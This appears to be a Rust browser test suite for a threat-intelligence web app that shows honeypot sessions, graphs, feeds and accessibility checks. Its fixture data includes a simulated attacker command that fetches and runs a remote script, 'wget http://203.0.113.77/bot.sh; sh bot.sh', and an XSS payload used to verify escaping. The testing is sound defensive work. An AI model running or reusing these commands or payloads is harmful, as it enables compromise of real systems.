//! The pages in a real browser: with scripts and without, light and dark, wide and narrow.
//!
//! `CYBEXP_WEB_SHOTS=FOLDER … -- --ignored pictures` takes pictures of all pages.

use std::path::PathBuf;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use cybexp_testkit::eventually;
use fantoccini::Locator;
use serde_json::json;
use test_needs::Need;

use crate::admin::refused_raw;
use crate::driver::Driver;
use crate::suite::{ADMIN, PASSWORD, Suite, path, session};

const ADDRESS: &str = "203.0.113.9";
const HOSTILE: &str = "<img src=x onerror=\"document.title='broken'\">\u{202e}\u{0}";

async fn filled(name: &str) -> Suite {
    fill(Suite::start(name).await).await
}

async fn fill(suite: Suite) -> Suite {
    let commands = [
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "cd /tmp; wget http://203.0.113.77/bot.sh; sh bot.sh",
        HOSTILE,
    ];
    let mut records = session(
        "8d0c0817",
        ADDRESS,
        &["123456", "123456", "support", "admin"],
        &commands,
    );
    for n in 0..6 {
        let address = format!("198.51.100.{n}");
        records.extend(session(
            &format!("9e1d192{n}"),
            &address,
            &["root", "admin"],
            &["uname -a"],
        ));
    }
    suite.have("cowrie", &records, ("ipv4", ADDRESS, 11)).await;
    suite
}

/// Submits the demo's files besides, and waits until the countries of their addresses are counted.
async fn with_the_demo(suite: &Suite) {
    let demo = |name: &str| {
        let path = format!("{}/../../demo/{name}", env!("CARGO_MANIFEST_DIR"));
        std::fs::read_to_string(path).unwrap()
    };
    let submit = async |typetag: &str, name: &str, lines: bool| {
        let text = demo(name);
        let records: Vec<&[u8]> = match lines {
            true => text.lines().map(str::as_bytes).collect(),
            false => vec![text.as_bytes()],
        };
        suite.submit_now(typetag, name, &records).await;
    };
    submit("cowrie", "cowrie.json", true).await;
    submit("sighting", "sightings.json", true).await;
    submit("openphish_feed", "openphish.txt", false).await;
    submit("email", "mail.eml", false).await;
    submit("misp_event", "misp.json", false).await;
    eventually("countries are known", async || {
        let page = suite.person(ADMIN).await.get("/overview").await;
        page.body.contains("class=\"dot\"") && page.text().contains("DE")
    })
    .await;
}

/// Subscribes to a value and a kind of events.
async fn with_subscriptions(suite: &Suite) {
    let mut person = suite.person(ADMIN).await;
    let csrf = person.get("/watch").await.csrf();
    let wanted = [
        [
            ("what", "value"),
            ("data", "203.0.113.45"),
            ("name", "that scanner"),
        ],
        [
            ("what", "events"),
            ("sub_type", "file_download"),
            ("name", "payloads"),
        ],
    ];
    for fields in wanted {
        let fields = fields.map(|(name, text)| (name, text.to_owned()));
        let fields = [fields.as_slice(), &[("csrf", csrf.clone())]].concat();
        let made = person.post("/watch", &fields).await;
        assert_eq!(made.status, 303, "{}", made.text());
    }
}

/// Waits until the page listens, and has events come in.
async fn with_live_events(suite: &Suite, driver: &Driver, n: u64) {
    driver
        .until("return document.querySelector('[data-live-state]').textContent.startsWith('Listening')")
        .await;
    let address = format!("198.51.100.{}", 40 + n);
    let records = session(
        &format!("77aa{n}"),
        &address,
        &["root"],
        &["uname -a", "nproc"],
    );
    let records: Vec<&[u8]> = records.iter().map(String::as_bytes).collect();
    suite.submit_now("cowrie", "live", &records).await;
    driver
        .until("return document.querySelectorAll('[data-live] > li').length >= 5")
        .await;
}

/// Makes a feed.
async fn with_a_feed(suite: &Suite) {
    let mut person = suite.person(ADMIN).await;
    let csrf = person.get("/feeds").await.csrf();
    let org = suite.site.orgid.to_string();
    let fields = [
        ("csrf", csrf),
        ("name", "blocklist".to_owned()),
        (
            "description",
            "Addresses that attacked within 30 days".to_owned(),
        ),
        ("org", org),
        ("sub_type", "ipv4".to_owned()),
        ("sub_type", "hostname".to_owned()),
        ("context", "malicious".to_owned()),
        ("min_count", "3".to_owned()),
        ("keep_s", "2592000".to_owned()),
        ("tlp", "green".to_owned()),
    ];
    let added = person.post("/feeds", &fields).await;
    assert_eq!(added.status, 200, "{}", added.text());
}

async fn sign_in(suite: &Suite, driver: &Driver) {
    let client = &driver.client;
    client
        .goto(&format!("{}/value?type=ipv4&data={ADDRESS}", suite.base))
        .await
        .unwrap();
    client
        .find(Locator::Id("email"))
        .await
        .unwrap()
        .send_keys(ADMIN)
        .await
        .unwrap();
    client
        .find(Locator::Id("password"))
        .await
        .unwrap()
        .send_keys(PASSWORD)
        .await
        .unwrap();
    client
        .find(Locator::Css("button.main"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    driver
        .until("return document.querySelector('svg.graph') !== null")
        .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_analyst_looks_around() {
    let Some(driver) = Driver::start().await else {
        return;
    };
    let suite = filled("browser").await;
    with_a_feed(&suite).await;
    let raw = refused_raw(&suite).await;
    let client = &driver.client;
    sign_in(&suite, &driver).await;

    // the policy refuses nothing that the page has, and hostile values did nothing
    let errors = driver
        .run("return performance.getEntriesByType('resource').every(e => e.responseStatus === 200)")
        .await;
    assert_eq!(errors, json!(true));
    assert_eq!(
        driver.run("return document.title.includes('broken')").await,
        json!(false)
    );
    assert_eq!(driver.run("return document.images.length").await, json!(0));
    assert_eq!(
        driver
            .run("return getComputedStyle(document.querySelector('body > header')).display")
            .await,
        json!("flex")
    );

    // keys: / goes to the search, and Enter searches
    driver.run("document.activeElement.blur()").await;
    client
        .find(Locator::Css("body"))
        .await
        .unwrap()
        .send_keys("/")
        .await
        .unwrap();
    assert_eq!(
        driver.run("return document.activeElement.id").await,
        json!("q")
    );
    client
        .active_element()
        .await
        .unwrap()
        .send_keys("198[.]51.100.3\u{e007}")
        .await
        .unwrap();
    driver.until("return document.querySelector('h1').textContent.includes('198[.]51.100.3') && document.querySelector('svg.graph') !== null").await;

    // a node of the graph leads on
    let script = "const a = [...document.querySelectorAll('svg.graph a')].find(a => a.querySelector('title').textContent.startsWith('url: http://203.0.113.77/bot.sh'));\
                  a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); return a.getAttribute('href')";
    let href = driver.run(script).await;
    assert!(
        href.as_str().unwrap().starts_with("/value?type=url"),
        "{href}"
    );
    driver.until("return location.search.includes('bot.sh') && document.querySelector('svg.graph') !== null").await;

    // a node is expanded in place
    let nodes = "return document.querySelectorAll('svg.graph .node').length";
    let few = driver.run(nodes).await.as_u64().unwrap();
    let script = "const a = [...document.querySelectorAll('svg.graph a[data-hash]')].find(a => a.querySelector('title').textContent === 'ipv4: 203.0.113.9');\
                  a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true, shiftKey: true})); window.stays = true; return true";
    driver.run(script).await;
    driver
        .until("return location.search.includes('with=') && window.stays && document.querySelector('a[data-graph]').textContent === 'Fold all'")
        .await;
    let more = driver.run(nodes).await.as_u64().unwrap();
    assert!(more > few, "{few} {more}");

    // the picture is a file, also as PNG
    driver
        .run("document.querySelector('a[data-png] ~ button').click()")
        .await;
    driver
        .until("return document.querySelector('a[data-png] ~ button').dataset.bytes > 1000")
        .await;

    // zoom by keys
    let before = driver
        .run("return document.querySelector('svg.graph').getAttribute('viewBox')")
        .await;
    let canvas = client.find(Locator::Css(".canvas")).await.unwrap();
    driver
        .run("document.querySelector('.canvas').focus()")
        .await;
    canvas.send_keys("+").await.unwrap();
    let after = driver
        .run("return document.querySelector('svg.graph').getAttribute('viewBox')")
        .await;
    assert_ne!(before, after);

    // the story of a session
    client
        .goto(&format!(
            "{}{}",
            suite.base,
            path("/session", &[("type", "sessionid"), ("data", "8d0c0817")])
        ))
        .await
        .unwrap();
    assert_eq!(
        driver
            .run("return document.querySelectorAll('.story > li').length > 7")
            .await,
        json!(true)
    );
    assert_eq!(driver.run("return document.images.length").await, json!(0));

    // no page is wider than a telephone
    driver.look(360, 740, false).await;
    for page in pages().into_iter().chain([raw]) {
        client.goto(&format!("{}{page}", suite.base)).await.unwrap();
        let wide = driver
            .run("return document.documentElement.scrollWidth")
            .await;
        assert!(wide.as_u64().unwrap() <= 360, "{page} is {wide} wide");
    }
    suite.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_work_without_scripts() {
    let Some(driver) = Driver::start().await else {
        return;
    };
    let suite = filled("noscript").await;
    driver.look(1200, 900, false).await;
    driver
        .devtools(
            "Emulation.setScriptExecutionDisabled",
            json!({"value": true}),
        )
        .await;
    let client = &driver.client;
    client.goto(&suite.base).await.unwrap();
    client
        .find(Locator::Id("email"))
        .await
        .unwrap()
        .send_keys(ADMIN)
        .await
        .unwrap();
    client
        .find(Locator::Id("password"))
        .await
        .unwrap()
        .send_keys(PASSWORD)
        .await
        .unwrap();
    client
        .find(Locator::Css("button.main"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    client
        .wait()
        .for_element(Locator::Id("values"))
        .await
        .unwrap()
        .send_keys(ADDRESS)
        .await
        .unwrap();
    client
        .find(Locator::Css("button.main"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    client
        .wait()
        .for_element(Locator::Css("svg.graph a"))
        .await
        .unwrap();

    let file = tempfile::NamedTempFile::with_suffix(".json").unwrap();
    std::fs::write(
        file.path(),
        r#"{"url": "http://posted.example/by-hand", "category": "malicious"}"#,
    )
    .unwrap();
    client.goto(&format!("{}/post", suite.base)).await.unwrap();
    client
        .find(Locator::Id("files"))
        .await
        .unwrap()
        .send_keys(&file.path().display().to_string())
        .await
        .unwrap();
    client
        .find(Locator::Css("main button.main"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let send = client
        .wait()
        .for_element(Locator::Css("button[value=send]"))
        .await
        .unwrap();
    let source = client.source().await.unwrap();
    assert!(
        source.contains("<option value=\"sighting\" selected"),
        "{source}"
    );
    send.click().await.unwrap();
    // the page loads itself until all is archived
    let done = Locator::XPath("//span[text()='in the archive']");
    client.wait().for_element(done).await.unwrap();
    let link = client
        .wait()
        .for_element(Locator::LinkText("http://posted.example/by-hand"))
        .await
        .unwrap();
    link.click().await.unwrap();
    suite.stop().await;
}

fn pages() -> Vec<String> {
    vec![
        "/".to_owned(),
        path("/value", &[("type", "ipv4"), ("data", ADDRESS)]),
        path(
            "/value",
            &[
                ("type", "url"),
                ("data", "http://203.0.113.77/bot.sh"),
                ("level", "2"),
            ],
        ),
        path("/session", &[("type", "sessionid"), ("data", "8d0c0817")]),
        "/post".to_owned(),
        "/account".to_owned(),
        "/overview".to_owned(),
        "/watch".to_owned(),
        "/inputs".to_owned(),
        "/quarantine".to_owned(),
        "/feeds".to_owned(),
        path("/list", &[("type", "ip"), ("text", "203.0.113.0/24")]),
    ]
}

/// `CYBEXP_AXE` names axe-core's `axe.min.js`, as `.ci/fetch_axe.py` gets it.
#[tokio::test(flavor = "multi_thread")]
async fn axe_finds_nothing_serious() {
    let Some(axe) = std::env::var_os("CYBEXP_AXE").map(PathBuf::from) else {
        Need::Axe.is_lacking("$CYBEXP_AXE names no axe.min.js");
        return;
    };
    let axe = std::fs::read_to_string(axe).unwrap();
    let Some(driver) = Driver::start().await else {
        return;
    };
    let suite = filled("axe").await;
    with_a_feed(&suite).await;
    let raw = refused_raw(&suite).await;
    sign_in(&suite, &driver).await;
    let mut pages = pages();
    pages.push(raw);
    pages.push(path("/org", &[("hash", &suite.site.orgid.to_string())]));
    pages.push(path("/value", &[("type", "ipv4"), ("data", "192.0.2.1")]));
    let mut found = Vec::new();
    for dark in [false, true] {
        driver.look(1200, 900, dark).await;
        for page in &pages {
            driver
                .client
                .goto(&format!("{}{page}", suite.base))
                .await
                .unwrap();
            driver
                .until("return document.readyState === 'complete'")
                .await;
            driver.run(&axe).await;
            let rules = "const done = arguments[arguments.length - 1];\
                         axe.run({runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']})\
                         .then(r => done(r.violations.map(v => v.impact + ': ' + v.help + ': ' + v.nodes[0].html)))";
            let told = driver.client.execute_async(rules, vec![]).await.unwrap();
            let told = told.as_array().unwrap().iter();
            found.extend(told.map(|one| format!("{page}, dark {dark}: {}", one.as_str().unwrap())));
        }
    }
    assert!(found.is_empty(), "{found:#?}");
    suite.stop().await;
}

/// Sizes in bytes and times in milliseconds of the page that is open.
const SIZES: &str = "const page = performance.getEntriesByType('navigation')[0];\
    const others = performance.getEntriesByType('resource').filter(e => !e.name.endsWith('/live'));\
    const paint = performance.getEntriesByType('paint').find(e => e.name === 'first-contentful-paint');\
    return {bytes: page.encodedBodySize, with_assets: others.reduce((n, e) => n + e.encodedBodySize, page.encodedBodySize),\
      requests: 1 + others.length, first_byte: Math.round(page.responseStart - page.requestStart),\
      first_paint: Math.round(paint?.startTime ?? 0), whole: Math.round(page.duration)}";

#[tokio::test(flavor = "multi_thread")]
#[ignore = "takes pictures, into the folder CYBEXP_WEB_SHOTS"]
async fn pictures_of_all_pages() {
    let folder = std::env::var_os("CYBEXP_WEB_SHOTS").map(PathBuf::from);
    let folder = folder.expect("CYBEXP_WEB_SHOTS names a folder");
    let Some(driver) = Driver::start().await else {
        return;
    };
    let suite = fill(Suite::with_networks("pictures").await).await;
    with_subscriptions(&suite).await;
    with_the_demo(&suite).await;
    with_a_feed(&suite).await;
    let raw = refused_raw(&suite).await;
    sign_in(&suite, &driver).await;
    let client = &driver.client;
    let event = driver
        .run("return document.querySelector('#events ~ .scroll a').getAttribute('href')")
        .await;
    let org = path("/org", &[("hash", &suite.site.orgid.to_string())]);
    let mut all: Vec<(&str, String)> = [
        "search",
        "value",
        "value-deep",
        "session",
        "post",
        "account",
        "overview",
        "watch",
        "inputs",
        "quarantine",
        "feeds",
        "list",
    ]
    .into_iter()
    .zip(pages())
    .collect();
    all.extend([
        ("event", event.as_str().unwrap().to_owned()),
        ("org", org),
        ("raw", raw),
        (
            "nothing",
            path("/value", &[("type", "ipv4"), ("data", "192.0.2.1")]),
        ),
    ]);
    let looks = [
        ("light", 1200, 900, false),
        ("dark", 1200, 900, true),
        ("narrow", 390, 800, false),
        ("narrow-dark", 390, 800, true),
    ];
    for (n, (look, width, height, dark)) in (0..).zip(looks) {
        driver.look(width, height, dark).await;
        for (name, page) in &all {
            client.goto(&format!("{}{page}", suite.base)).await.unwrap();
            if n == 0 {
                println!("{name}: {}", driver.run(SIZES).await);
            }
            if *name == "watch" {
                with_live_events(&suite, &driver, n).await;
            }
            let whole = driver
                .run("return document.documentElement.scrollHeight")
                .await;
            let clip = json!({"x": 0, "y": 0, "width": width, "height": whole.as_u64().unwrap().min(3000), "scale": 1});
            let shot = driver
                .devtools(
                    "Page.captureScreenshot",
                    json!({"clip": clip, "captureBeyondViewport": true}),
                )
                .await;
            let png = STANDARD.decode(shot["data"].as_str().unwrap()).unwrap();
            std::fs::write(folder.join(format!("{name}-{look}.png")), png).unwrap();
        }
    }
    suite.stop().await;
}
